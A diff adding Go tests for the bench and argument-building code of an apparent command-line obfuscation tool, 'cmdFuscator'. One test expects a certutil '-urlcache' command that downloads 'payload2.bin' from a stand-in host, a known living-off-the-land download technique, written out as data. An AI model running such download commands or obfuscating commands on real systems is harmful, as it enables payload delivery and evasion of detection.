@@ -0,0 +1,81 @@
+package cli
+
+import (
+	"encoding/json"
+	"strings"
+	"testing"
+
+	"cmdFuscator/engine/modifiers"
+	"cmdFuscator/models"
+)
+
+func TestBench(t *testing.T) {
+	code, stdout, stderr := run(t, "", "bench", "--benchtime", "1ms", "--json")
+	if code != exitOK {
+		t.Fatalf("exit code = %d, stderr %q", code, stderr)
+	}
+	var rep benchReport
+	if err := json.Unmarshal([]byte(stdout), &rep); err != nil {
+		t.Fatalf("output is not JSON: %v\n%s", err, stdout)
+	}
+	if len(rep.Modifiers) != len(modifiers.All()) {
+		t.Errorf("%d modifier rows, want one per registered modifier (%d)", len(rep.Modifiers), len(modifiers.All()))
+	}
+	for _, r := range rep.Modifiers {
+		if (r.Ops == 0) == (r.Note == "") {
+			t.Errorf("%s: ops = %d with note %q; want either a measurement or a reason", r.Name, r.Ops, r.Note)
+		}
+	}
+	if p := rep.Pipeline; p.Ops == 0 || p.NsPerOp <= 0 || p.VariantsPerSec <= 0 || p.Commands == 0 {
+		t.Errorf("pipeline = %+v, want a measurement", p)
+	}
+}
+
+func TestBenchTable(t *testing.T) {
+	code, stdout, stderr := run(t, "", "bench", "--benchtime", "1ms", "--exe", "bash", "--modifiers", "RandomCase,QuoteInsertion")
+	if code != exitOK {
+		t.Fatalf("exit code = %d, stderr %q", code, stderr)
+	}
+	// Rows follow the registry, not --modifiers.
+	lines := strings.Split(strings.TrimSuffix(stdout, "\n"), "\n")
+	if len(lines) != 4 {
+		t.Fatalf("got %d lines, want a header, QuoteInsertion, RandomCase and pipeline:\n%s", len(lines), stdout)
+	}
+	for i, prefix := range []string{"MODIFIER", "QuoteInsertion", "RandomCase", "pipeline"} {
+		if !strings.HasPrefix(lines[i], prefix) {
+			t.Errorf("line %d = %q, want it to start with %s", i, lines[i], prefix)
+		}
+	}
+	if !strings.Contains(lines[1], "not implemented") || !strings.Contains(lines[3], "variants/s") {
+		t.Errorf("table:\n%s", stdout)
+	}
+}
+
+func TestBenchUsage(t *testing.T) {
+	tests := []struct {
+		args []string
+		code int
+	}{
+		{[]string{"bench", "extra"}, exitUsage},
+		{[]string{"bench", "--benchtime", "0s"}, exitUsage},
+		{[]string{"bench", "--modifiers", "RandomCas"}, exitUsage},
+		{[]string{"bench", "--benchtime", "1ms", "--exe", "nosuchtool"}, exitError},
+	}
+	for _, tt := range tests {
+		if code, _, stderr := run(t, "", tt.args...); code != tt.code {
+			t.Errorf("%q: exit code = %d, want %d (stderr %q)", tt.args, code, tt.code, stderr)
+		}
+	}
+}
+
+func TestAllArguments(t *testing.T) {
+	p := models.Profile{Platform: "windows", Parameters: models.ProfileParameters{Arguments: []models.ArgumentDefinition{
+		{Flags: []string{"-f", "--force"}},
+		{Flags: []string{"-urlcache"}, ValueCount: 2},
+		{},
+	}}}
+	want := `certutil -f -urlcache C:\Users\Public\file1.txt https://example.com/payload2.bin`
+	if got := allArguments("certutil", p); got != want {
+		t.Errorf("allArguments = %q, want %q", got, want)
+	}
+}